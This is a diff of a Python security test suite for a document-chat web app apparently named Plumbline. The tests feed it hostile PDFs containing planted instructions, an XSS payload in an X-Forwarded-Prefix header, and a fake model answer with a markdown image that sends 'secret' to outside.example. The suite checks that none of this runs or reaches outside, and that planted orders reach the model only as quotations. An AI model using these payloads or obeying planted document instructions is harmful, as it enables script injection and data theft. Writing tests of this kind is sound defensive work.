@@ -14,23 +14,24 @@ from urllib.parse import quote
 
 import httpx
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Page, expect
 
 from runtime.local.home import Home
+from runtime.local.minilm import MiniLm
 from runtime.local.openai import OpenAiChat
 from runtime.ports import Entry, PlumblineError
-from runtime.settings import Settings
 from tests import pdfs
 from tests.aws.listening import listening
 from tests.aws.stack import until
-from tests.journeys.test_chat_page import ask, visit
-from tests.journeys.test_sign_in import Site, behind
-from tests.journeys.test_sign_in import listening as served
+from tests.browsing import Visitors, ask, visit
 from tests.signing import signing
+from tests.sites import Site, behind, home_in, served
 from ui.app import MAX_BOXES, serve
 from ui.gate import Password, ThisMachine
 from ui.headers import HEADERS
 from ui.sign_in import SignIn
+
+pytestmark = pytest.mark.xdist_group("security")
 
 OUTSIDE = "http://outside.example"
 ORDER = (
@@ -111,24 +112,33 @@ class Model(BaseHTTPRequestHandler):
 
 
 @pytest.fixture(scope="module")
-def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+def site(tmp_path_factory: pytest.TempPathFactory, minilm: MiniLm) -> Iterator[Site]:
     """A page of one machine over hostile documents, whose model server does as it is told."""
     folder = tmp_path_factory.mktemp("site")
-    home = Home(Settings.read({"PLUMBLINE_HOME": str(folder / "home"), "PLUMBLINE_THREADS": "1"}))
-    home.add([pdfs.paragraphs(folder / "kiln.pdf", ["The kiln is fired at 940 degrees.", TRICKS], TRICKS)])
-    home.add([pdfs.paragraphs(folder / "zebra.pdf", [f"The zebra of the pottery says: {ORDER}"], f"Zebra {ORDER}")])
-    home.add([pdfs.paragraphs(folder / NAME, ["The glaze of the pottery is mixed on Tuesdays."])])
-    for key in ("kiln.pdf", "zebra.pdf", NAME):
-        assert home.ingestor().reconcile(key).did == "ingested"
     with listening(Model) as url, signing() as signs:
-        home.__dict__["generator"] = OpenAiChat(url, "told")
+        home = home_in(folder, minilm, OpenAiChat(url, "told"))
+        home.add([pdfs.paragraphs(folder / "kiln.pdf", ["The kiln is fired at 940 degrees.", TRICKS], TRICKS)])
+        home.add([pdfs.paragraphs(folder / "zebra.pdf", [f"The zebra of the pottery says: {ORDER}"], f"Zebra {ORDER}")])
+        home.add([pdfs.paragraphs(folder / NAME, ["The glaze of the pottery is mixed on Tuesdays."])])
+        for key in ("kiln.pdf", "zebra.pdf", NAME):
+            assert home.ingestor().reconcile(key).did == "ingested"
         with behind(home, ThisMachine(), signs) as made:
             yield made
 
 
-def watched(browser: Browser, address: str, **options: Any) -> tuple[Page, list[str], list[str]]:
+PASSWORD = "correct horse battery"
+
+
+@pytest.fixture(scope="module")
+def with_password(site: Site) -> Iterator[str]:
+    """A page over the same library that asks for a password, by its address."""
+    with served(serve(site.home, None, Password(PASSWORD))) as url:
+        yield url
+
+
+def watched(browser: Visitors, address: str) -> tuple[Page, list[str], list[str]]:
     """A visitor; what the page asked of others; and what the policy stopped."""
-    page = visit(browser, address, "Answers by told", **options)
+    page = visit(browser, address, "Answers by told")
     outside: list[str] = []
     stopped: list[str] = []
 
@@ -210,11 +220,9 @@ def test_where_people_sign_in_browsers_ask_by_https_alone_and_errors_say_so_too(
         ("", {"X-Forwarded-Prefix": "/</script><script>alert(1)</script>"}),
     ],
 )
-def test_no_request_puts_a_script_into_the_page(site: Site, query: str, headers: dict[str, str]) -> None:
-    password = "correct horse battery"
-    with served(serve(site.home, None, Password(password))) as url:
-        plain = httpx.get(url, auth=("", password))
-        tried = httpx.get(f"{url}/{query}", auth=("", password), headers=headers)
+def test_no_request_puts_a_script_into_the_page(with_password: str, query: str, headers: dict[str, str]) -> None:
+    plain = httpx.get(with_password, auth=("", PASSWORD))
+    tried = httpx.get(f"{with_password}/{query}", auth=("", PASSWORD), headers=headers)
     count = 0
     for answer in (plain, tried):
         if answer.status_code != 200:
@@ -270,7 +278,7 @@ def test_of_gradios_own_addresses_only_those_of_the_page_answer(site: Site, path
 
 
 def test_the_policy_stops_nothing_that_the_page_does_and_all_that_is_put_into_it(
-    browser: Browser, site: Site, tmp_path: Path
+    browser: Visitors, site: Site, tmp_path: Path
 ) -> None:
     Model.says = "The kiln is fired at 940 degrees [1]."
     page, outside, stopped = watched(browser, site.url)
@@ -305,12 +313,11 @@ def test_the_policy_stops_nothing_that_the_page_does_and_all_that_is_put_into_it
         assert page.evaluate("window.seen").count("script-src-elem") == 2
     assert page.evaluate("document.title") == "Plumbline"
     assert (asked, page.url) == ([], f"{site.url}/?__theme=dark")
-    page.context.close()
 
 
 @pytest.mark.parametrize("place", ["answer", "question"])
 def test_nothing_that_is_written_in_an_answer_or_a_question_runs_loads_or_leads_outside(
-    browser: Browser, site: Site, place: str
+    browser: Visitors, site: Site, place: str
 ) -> None:
     Model.says = TRICKS + "The kiln is fired at 940 degrees [1]." if place == "answer" else "It is hot [1]."
     question = "How hot is the kiln?" if place == "answer" else f"How hot is the kiln? {TRICKS}"[:3900]
@@ -330,10 +337,9 @@ def test_nothing_that_is_written_in_an_answer_or_a_question_runs_loads_or_leads_
     page.locator("#list label").first.click()
     expect(page.locator("#chat .bot").last).to_contain_text("[1]")
     assert (page.title(), outside, stopped) == ("Plumbline", [], [])
-    page.context.close()
 
 
-def test_a_documents_name_is_a_text_wherever_it_is_shown(browser: Browser, site: Site) -> None:
+def test_a_documents_name_is_a_text_wherever_it_is_shown(browser: Visitors, site: Site) -> None:
     Model.says = "On Tuesdays [1]."
     page, outside, stopped = watched(browser, site.url)
     ask(page, "When is the glaze of the pottery mixed?")
@@ -349,13 +355,12 @@ def test_a_documents_name_is_a_text_wherever_it_is_shown(browser: Browser, site:
     expect(page.get_by_text("is taken out of the library")).to_contain_text(NAME)
     expect(page.locator("#documents td", has_text="document.title")).to_have_count(0)
     assert (page.title(), outside, stopped) == ("Plumbline", [], [])
-    page.context.close()
 
 
 # --- instructions in documents ---
 
 
-def test_what_a_document_orders_reaches_the_model_as_a_quotation(browser: Browser, site: Site) -> None:
+def test_what_a_document_orders_reaches_the_model_as_a_quotation(browser: Visitors, site: Site) -> None:
     Model.says = f"The zebra: ![zebra]({OUTSIDE}/zebra.png?q=secret) {OUTSIDE}/zebra [1]"
     Model.asked.clear()
     page, outside, stopped = watched(browser, site.url)
@@ -374,7 +379,6 @@ def test_what_a_document_orders_reaches_the_model_as_a_quotation(browser: Browse
     expect(page.locator("#chat .bot").last).to_contain_text(f"{OUTSIDE}/zebra")
     assert page.locator("#chat .bot img").count() == 0
     assert (outside, stopped) == ([], [])
-    page.context.close()
 
 
 # --- names and paths ---
